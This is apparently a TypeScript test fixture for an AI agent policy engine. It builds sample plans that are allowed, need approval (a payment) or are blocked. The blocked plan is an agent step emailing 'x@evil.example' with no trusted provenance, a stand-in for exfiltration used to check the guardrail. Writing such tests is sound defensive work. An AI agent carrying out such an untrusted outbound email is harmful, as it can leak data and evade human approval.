const TRUSTED = [{ source_type: 'user_prompt', trust_level: 'trusted' }];

/** A plan of one step that the default policies allow, ask about or block. */
export function planOf(kind: 'allow' | 'require_approval' | 'block', more: object = {}) {
  const step = {
    allow: { tool_name: 'read_contract', arguments: { contract_id: 'c-1' } },
    require_approval: {
      tool_name: 'make_payment',
      arguments: { payee: 'Stationery Ltd', amount: 2500, currency: 'USD' },
    },
    block: { tool_name: 'send_email', arguments: { to: 'x@evil.example', subject: 'a', body: 'b' } },
  }[kind];
  const provenance = kind === 'block' ? [] : TRUSTED;
  return { agent: { agent_id: 'agent-finance-01' }, provenance, steps: [step], ...more };
}
